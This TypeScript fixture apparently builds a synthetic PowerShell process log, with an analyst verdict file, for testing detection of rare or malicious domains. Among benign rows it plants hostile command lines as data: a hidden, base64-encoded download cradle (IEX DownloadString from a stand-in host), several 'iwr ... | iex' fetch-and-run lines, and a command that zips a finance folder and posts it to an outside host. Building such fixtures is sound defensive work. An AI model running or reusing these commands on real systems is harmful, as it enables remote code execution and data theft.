import { plantedNetwork } from './planted-network';

const minute = 60_000;
const day = 24 * 60 * minute;

/** Saturday 13 April 2024, nine in the morning in UTC: in the last week of the planted network. */
const lastSaturday = Date.UTC(2024, 3, 13, 9);

const utf16 = (text: string): string => Buffer.from(text, 'utf16le').toString('base64');

/** What is planted in arguments beside {@link plantedNetwork}, by name. */
export const plantedArguments = {
  /** Two machines fetch and run a script by an encoded command; no list knows the domain. */
  cradle: { base: 'hidden-cradle.top', fqdn: 'cdn.hidden-cradle.top', says: "IEX (New-Object Net.WebClient).DownloadString('http://cdn.hidden-cradle.top/a.ps1')" },
  /** Shared hosting that every machine uses, and below it a tenant to which one machine uploads an archive. */
  hosting: { base: 'workers.dev', good: 'portal.workers.dev', bad: 'quiet-drop.workers.dev' },
  /** A tool of the organisation's own, which no rule knows. */
  tool: { base: 'everyday-1.com', word: 'acme-sync', arguments: 'acme-sync --push nightly' },
} as const;

const cradleArguments = `-nop -w hidden -enc ${utf16(plantedArguments.cradle.says)}`;

/** Domains of one weekend, each contacted by two machines with arguments of their own: more of everything than a screen lists. */
export const onceOnly = Array.from({ length: 130 }, (_, index) => `once-only-${lettersOf(index)}.net`);

/** Ten of them are malicious and fetched with a cradle, as an analyst found. */
export const maliciousOnce = onceOnly.slice(0, 10);

function lettersOf(index: number): string {
  return String.fromCharCode(97 + Math.floor(index / 26), 97 + (index % 26));
}

interface Planted {
  readonly time: number;
  readonly host: string;
  readonly fqdn: string;
  readonly arguments: string;
}

function* plantedContacts(): Generator<Planted> {
  for (const contact of plantedNetwork(11)) yield { ...contact, arguments: '-NoProfile -File C:\\Scripts\\inventory.ps1' };
  const { cradle, hosting, tool } = plantedArguments;
  yield { time: lastSaturday, host: 'ws-03', fqdn: cradle.fqdn, arguments: cradleArguments };
  yield { time: lastSaturday + 3 * minute, host: 'ws-04', fqdn: cradle.fqdn, arguments: cradleArguments };
  for (let i = 0; i < 400; i++) yield { time: lastSaturday - day - i * 50 * minute, host: `ws-${String((i % 30) + 1).padStart(2, '0')}`, fqdn: hosting.good, arguments: '-NoProfile -File C:\\Scripts\\portal.ps1' };
  yield { time: lastSaturday + 9 * minute, host: 'ws-05', fqdn: hosting.bad, arguments: `Compress-Archive C:\\Finance C:\\Temp\\f.zip; Invoke-RestMethod -Uri https://${hosting.bad}/u -Method Post -InFile C:\\Temp\\f.zip` };
  yield { time: lastSaturday + 10 * minute, host: 'ws-08', fqdn: `www.${tool.base}`, arguments: tool.arguments };
  for (const [index, domain] of onceOnly.entries()) {
    for (const machine of [index % 30, (index + 7) % 30]) {
      const fetch = `iwr https://${domain}/x.ps1 | iex`;
      const job = `-File job-${domain.slice(10, 12)}.ps1`;
      yield { time: lastSaturday + (20 + index) * minute, host: `ws-${String(machine + 1).padStart(2, '0')}`, fqdn: `www.${domain}`, arguments: index < maliciousOnce.length ? fetch : job };
    }
  }
}

const quoted = (cell: string): string => `"${cell.replaceAll('"', '""')}"`;

/** The planted network with arguments, as a log with the columns of the study. */
export function plantedArgumentsLog(): string {
  const rows = [...plantedContacts()].map(({ time, host, fqdn, arguments: args }) => [new Date(time).toISOString(), host, 'powershell.exe', quoted(args), fqdn].join(','));
  return `timestamp,host_name,process_name,process_args,remote_host\n${rows.join('\n')}\n`;
}

/** What an analyst found: so many of the malicious ones, and as many everyday domains and harmless ones of the weekend. */
export function plantedReviews(malicious: number, benign: number): string {
  const rows = [
    ...maliciousOnce.slice(0, malicious).map((domain) => `malicious,${domain},,`),
    ...Array.from({ length: benign }, (_, index) => `benign,${index % 2 === 0 ? `everyday-${index + 2}.com` : onceOnly[20 + index]},,`),
  ];
  return `verdict,domain,arguments,note\n${rows.join('\n')}\n`;
}
